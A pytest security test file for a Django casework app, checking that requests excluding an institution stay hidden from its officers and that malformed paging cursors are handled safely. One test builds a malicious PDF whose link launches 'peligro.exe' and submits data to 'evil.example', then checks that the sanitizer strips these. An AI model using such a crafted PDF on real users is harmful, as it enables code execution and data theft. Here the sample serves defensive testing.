"""Attacks on the desk's pages, each kept as the sentence that must stay true."""

import io
from collections.abc import Callable
from datetime import timedelta

import pikepdf
import pytest
from django.core import mail
from django.test import Client
from django.utils import timezone

from amparo.casework.admission.unopened_request_alerts import alert_unopened
from amparo.foundations.accounts.actors import SYSTEM, Actor
from amparo.foundations.accounts.mail import outbox
from amparo.foundations.accounts.models import Member
from amparo.foundations.accounts.services import give_group_seat
from amparo.foundations.institutions.models import Unit
from amparo.foundations.intake.files.sandboxed_rendering import cleaned
from amparo.foundations.intake.keys.case_keys import STRANGER
from amparo.foundations.intake.queries import visit_by_phrase
from amparo.foundations.intake.requests.services import Letter, file_request
from amparo.foundations.intake.services import exclude
from tests.people import MONDAY

type MakeLetter = Callable[..., Letter]
type Enrol = Callable[..., Actor]
type SignedIn = Callable[[Actor], Client]

LONG_AGO = timedelta(hours=2)


# The excluded institution's officer, seconded to the team


@pytest.fixture
def seconded(rosa: Actor, enrolled: Enrol) -> Actor:
    """An officer of the police who receives requests beside rosa."""
    member = enrolled("Paco Leon", "reception", unit="pnp-selva")
    give_group_seat(member.member, kind="reception", by=rosa, at=MONDAY)
    return member


@pytest.fixture
def seconded_analyst(enrolled: Enrol) -> Actor:
    return enrolled("Lina Paz", "analyst", unit="pnp-selva")


def codes_on_list(browser: Client) -> set[str]:
    leading = {one.code for one in browser.get("/desk/").context["unopened"].oldest}
    page = browser.get("/desk/filings/")
    assert {one.code for one in page.context["rows"]} == leading
    assert page.context["count"].number == len(leading)
    assert not page.context["count"].more
    return leading


def alerted(browser: Client) -> bool:
    return "urgente" in browser.get("/desk/team/").content.decode()


def test_a_request_that_names_her_institution_is_on_no_list_of_hers(
    rosa: Actor,
    seconded: Actor,
    seconded_analyst: Actor,
    ana: Actor,
    letter: MakeLetter,
    site: dict[str, Unit],
    signed_in: SignedIn,
) -> None:
    """A code that she sees and cannot open would say: somebody named you."""
    for_all = file_request(letter(), by=STRANGER, at=timezone.now()).folder.code
    guarded = letter(excluded_units=[site["pnp"]], urgent=True, kind="urgent")
    hidden = file_request(guarded, by=STRANGER, at=timezone.now() - LONG_AGO).folder.code
    assert codes_on_list(signed_in(rosa)) == {for_all, hidden}
    assert codes_on_list(signed_in(seconded)) == {for_all}
    assert codes_on_list(signed_in(seconded_analyst)) == {for_all}
    # Nobody who could not open it learns that it is guarded either, whatever her institution.
    assert codes_on_list(signed_in(ana)) == {for_all}
    assert alerted(signed_in(rosa))
    assert not alerted(signed_in(seconded))
    assert not alerted(signed_in(seconded_analyst))


def test_nor_is_one_that_names_her_before_she_came(
    rosa: Actor, enrolled: Enrol, letter: MakeLetter, site: dict[str, Unit], signed_in: SignedIn
) -> None:
    """While all of the reception might know, the request went to its common key: she holds it."""
    guarded = letter(excluded_units=[site["pnp"]], excluded_names="Nora Salas")
    code = file_request(guarded, by=STRANGER, at=timezone.now()).folder.code
    later = enrolled("Paco Leon", "reception", unit="pnp-selva")
    named = enrolled("Nora Salas", "reception")
    for member in (later, named):
        give_group_seat(member.member, kind="reception", by=rosa, at=MONDAY)
    assert codes_on_list(signed_in(rosa)) == {code}
    assert codes_on_list(signed_in(later)) == codes_on_list(signed_in(named)) == set()


def test_what_she_named_later_takes_it_off_their_list(
    rosa: Actor, seconded: Actor, letter: MakeLetter, site: dict[str, Unit], signed_in: SignedIn
) -> None:
    filed = file_request(letter(), by=STRANGER, at=timezone.now())
    assert codes_on_list(signed_in(seconded)) == {filed.folder.code}
    flor, _ = visit_by_phrase(" ".join(filed.words), seen_by=STRANGER)
    exclude(flor.folder, site["pnp"], by=flor, at=timezone.now())
    assert codes_on_list(signed_in(seconded)) == set()
    assert codes_on_list(signed_in(rosa)) == {filed.folder.code}


def test_no_mail_wakes_who_must_not_know(
    rosa: Actor, seconded: Actor, letter: MakeLetter, site: dict[str, Unit]
) -> None:
    for one in (rosa, seconded):
        mail_of = f"{one.member.sign_in_name}@example.org"
        Member.objects.filter(pk=one.member.pk).update(mail=mail_of)
    guarded = letter(excluded_units=[site["pnp"]], urgent=True, kind="urgent")
    file_request(guarded, by=STRANGER, at=MONDAY)
    alert_unopened(by=SYSTEM, at=MONDAY + LONG_AGO)
    outbox.send_out(at=MONDAY + LONG_AGO)
    assert {to for message in mail.outbox for to in message.to} == {"rosa@example.org"}


# Files that do something


def test_nothing_dangerous_hides_behind_a_harmless_link_of_a_document() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0]
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="peligro.exe")
    send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
    turn = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=[page.obj, pikepdf.Name.Fit], Next=pikepdf.Array([launch, send])
    )
    click = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=pdf.make_indirect(turn)
    )
    page.Annots = pikepdf.Array([click])
    out = io.BytesIO()
    pdf.save(out)
    copy = pikepdf.open(io.BytesIO(cleaned("pdf", out.getvalue()).content))
    link = copy.pages[0].Annots[0]
    assert str(link.A.S) == "/GoTo"
    assert "/Next" not in link.A
    said = b"".join(one.unparse(resolved=True) for one in copy.objects)
    assert b"peligro" not in said
    assert b"evil" not in said


# The flooder and the liar


@pytest.mark.parametrize(
    "mark",
    [
        "0~2026-01-01T00:00:00+00:00~99999999999999999999999",
        "99999999999999999999~2026-01-01T00:00:00+00:00~1",
        "0~0001-01-01T00:00:00+14:00~1",
        "0~9999-12-31T23:59:59-14:00~1",
        "-1~2026-01-01T00:00:00+00:00~-1",
        "\0~\0~\0",
    ],
)
@pytest.mark.parametrize("page", ["/desk/", "/duties/"])
def test_a_mangled_place_in_a_list_is_the_lists_beginning(
    ana: Actor, carla: Actor, signed_in: SignedIn, page: str, mark: str
) -> None:
    browser = signed_in(ana if page == "/desk/" else carla)
    for given in (mark, mark.partition("~")[2]):
        assert browser.get(page, {"after": given}).status_code == 200
